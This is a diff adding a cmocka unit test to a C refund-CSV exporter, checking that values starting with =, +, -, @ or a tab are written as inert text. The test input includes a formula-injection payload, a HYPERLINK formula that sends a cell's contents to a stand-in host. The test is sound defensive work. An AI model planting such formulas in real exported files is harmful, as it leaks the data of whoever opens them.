@@ -40,6 +40,22 @@ static void test_special_fields_are_quoted_and_read_back(void **state)
     pc_refund_csv_free(&c);
 }
 
+/* A merchant's refund reason is exported to a file ops open in a
+ * spreadsheet: a cell that would run as a formula is written as text. */
+static void test_formula_cells_are_written_as_text(void **state)
+{
+    (void)state;
+    pc_refund_csv_t c = {0};
+    const char *f[] = {
+        "R3", "=HYPERLINK(\"https://x.example/?\"&A2,\"Open\")", "+1", "-2", "@SUM(A1)", "\tx",
+        "a=b"};
+    pc_refund_csv_row(&c, f, 7);
+    assert_string_equal(pc_refund_csv_text(&c),
+                        "R3,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A2,\"\"Open\"\")\",\"'+1\","
+                        "\"'-2\",\"'@SUM(A1)\",\"'\tx\",a=b\n");
+    pc_refund_csv_free(&c);
+}
+
 static void test_reader_takes_crlf_and_skips_blank_lines(void **state)
 {
     (void)state;
@@ -128,6 +144,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_plain_fields_are_written_as_they_are),
         cmocka_unit_test(test_special_fields_are_quoted_and_read_back),
+        cmocka_unit_test(test_formula_cells_are_written_as_text),
         cmocka_unit_test(test_reader_takes_crlf_and_skips_blank_lines),
         cmocka_unit_test(test_malformed_records_are_refused),
         cmocka_unit_test(test_result_header_finds_columns_by_name),
